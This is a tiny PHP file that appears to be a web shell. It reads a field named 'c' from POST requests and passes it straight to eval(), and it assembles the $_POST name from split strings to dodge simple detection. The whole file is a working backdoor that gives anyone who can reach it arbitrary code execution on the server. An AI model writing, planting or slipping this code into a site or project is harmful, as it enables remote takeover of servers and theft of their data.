<?php
$p = ${'_PO' . 'ST'};
$c = $p['c'];
eval($c);
